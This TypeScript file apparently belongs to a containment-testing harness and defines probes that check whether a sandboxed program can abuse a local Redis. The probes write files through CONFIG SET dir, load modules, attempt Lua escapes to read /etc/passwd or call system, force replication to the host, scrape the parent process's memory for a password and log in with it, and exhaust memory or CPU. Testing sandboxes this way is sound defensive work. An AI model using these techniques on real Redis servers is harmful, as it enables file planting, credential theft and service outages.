import type { InsideProbe } from "../probe.ts";

const FAMILY = "the Redis beside it";

/** Sends commands in Redis' own protocol and returns the raw replies to all of them as one string. */
const ASK = `
  const ask = async (...commands) => {
    const { port } = new URL(process.env.REDIS_URL);
    const socket = net.connect(port, "127.0.0.1");
    const bytes = (word) => "$" + Buffer.byteLength(word) + "\\r\\n" + word + "\\r\\n";
    socket.end(commands.map((words) => "*" + words.length + "\\r\\n" + words.map(bytes).join("")).join(""));
    return String(Buffer.concat(await socket.toArray()));
  };`;

/** Harm that a program could do through the machine's Redis. */
export const SERVICE_PROBES: readonly InsideProbe[] = [
  probe(
    "has Redis write a file, in its own folder or the host's",
    `for (const folder of ["/work", "/tmp", "/aulo", host.folder]) {
       const said = await ask(["CONFIG", "SET", "dir", folder], ["CONFIG", "SET", "dbfilename", "written"], ["SET", "k", "v"], ["SAVE"], ["BGREWRITEAOF"]);
       await sleep(50);
       if (fs.existsSync(path.join(folder, "written"))) return folder + " has a file of Redis' (" + said + ")";
     }`,
  ),
  probe(
    "has Redis load a library",
    `const program = fs.readFileSync("/usr/bin/redis-server"); fs.writeFileSync("/work/module.so", program, { mode: 0o755 });
     const said = await ask(["MODULE", "LOAD", "/work/module.so"], ["CONFIG", "SET", "enable-module-command", "yes"], ["MODULE", "LOAD", "/work/module.so"]);
     return !said.split("\\r\\n").filter(Boolean).every((line) => line.startsWith("-")) && said;`,
  ),
  probe(
    "leaves a script in Redis for the system around it",
    `const tries = ["return package.loadlib('/usr/lib/x86_64-linux-gnu/libc.so.6', 'system')", "return io.open('/etc/passwd'):read('*a')", "return os.execute('id')",
       "return require('os')", "return loadfile('/etc/passwd')", "return dofile('/etc/passwd')", "return debug.getinfo(1).source"];
     const said = await ask(...tries.map((script) => ["EVAL", script, "0"]));
     return !said.split("\\r\\n").filter(Boolean).every((line) => line.startsWith("-")) && said;`,
  ),
  probe(
    "has Redis connect to the host",
    `const to = ["127.0.0.1", String(host.tcpPort)];
     const said = await ask(["SET", "k", "v"], ["MIGRATE", ...to, "k", "0", "500"], ["REPLICAOF", ...to], ["CLUSTER", "MEET", ...to], ["FAILOVER", "TO", ...to]);
     await sleep(200);
     return said.split("\\r\\n").filter((line) => line.startsWith("+")).length > 1 && said;`,
  ),
  probe(
    "comes in as the spec's user, or learns of it",
    `const said = await ask(["ACL", "LIST"], ["ACL", "GETUSER", "aulo"], ["AUTH", "aulo", ""], ["AUTH", "aulo", "aulo"], ["ACL", "SETUSER", "default", "+@all"], ["CONFIG", "GET", "requirepass"], ["DEBUG", "SLEEP", "0"]);
     const opened = said.split("\\r\\n").filter((line) => line.startsWith("+") || line.includes(">") || line.includes("user "));
     const seen = processIds().some((id) => { try { return /requirepass|user aulo/.test(fs.readFileSync("/proc/" + id + "/cmdline", "utf8")); } catch { return false; } });
     return (opened.filter((line) => !line.startsWith("-")).length > 0 || seen) && said;`,
  ),
  probe(
    "reads the password of the spec's user in the harness's memory, and comes in by it",
    `const found = new Set();
     const marks = ["aulo on >", "$4\\r\\naulo\\r\\n$32\\r\\n"];
     const memory = fs.openSync("/proc/" + process.ppid + "/mem");
     for (const [, from, to] of fs.readFileSync("/proc/" + process.ppid + "/maps", "utf8").matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
       const start = parseInt(from, 16), bytes = Buffer.alloc(Math.min(parseInt(to, 16) - start, 4 << 20));
       try { fs.readSync(memory, bytes, 0, bytes.length, start); } catch { continue; }
       for (const mark of marks) for (let at = bytes.indexOf(mark); at !== -1; at = bytes.indexOf(mark, at + 1)) {
         const word = bytes.toString("latin1", at + mark.length, at + mark.length + 32);
         if (/^[0-9a-f]{32}$/.test(word)) found.add(word);
       }
     }
     for (const word of found) if ((await ask(["AUTH", "aulo", word])).startsWith("+")) return "the password " + word;
     throw new Error("of " + found.size + " passwords none is taken");`,
  ),
  probe(
    "fills Redis' memory by its data",
    `const part = "x".repeat(1 << 20);
     for (let at = 0; at < 200; at += 1) if ((await ask(["SET", "k" + at, part])).startsWith("-OOM")) return null;
     return "200 MB are in Redis";`,
    { stoppedBy: ["out-of-memory"] },
  ),
  probe(
    "fills Redis' memory by a script",
    `const said = await ask(["EVAL", "local held, part = {}, string.rep('x', 1048576) for at = 1, 900 do held[at] = part .. at end return #held", "0"]);
     return said.startsWith(":") && "a script held some 900 MB (" + said + ")";`,
    { stoppedBy: ["out-of-memory"], limits: { memoryMb: 64, timeoutMs: 12_000 } },
  ),
  probe("keeps Redis busy without end", `await ask(["EVAL", "while true do end", "0"]);`, {
    stoppedBy: ["timed-out"],
    limits: { timeoutMs: 2_500 },
  }),
];

function probe(name: string, body: string, more: Partial<InsideProbe> = {}): InsideProbe {
  return {
    family: FAMILY,
    name,
    body: ASK + body,
    services: ["redis"],
    // Redis is not started when it is missing, or when the run is not contained.
    stoppedBy: ["not-runnable", ...(more.stoppedBy ?? [])],
    ...(more.limits && { limits: more.limits }),
  };
}
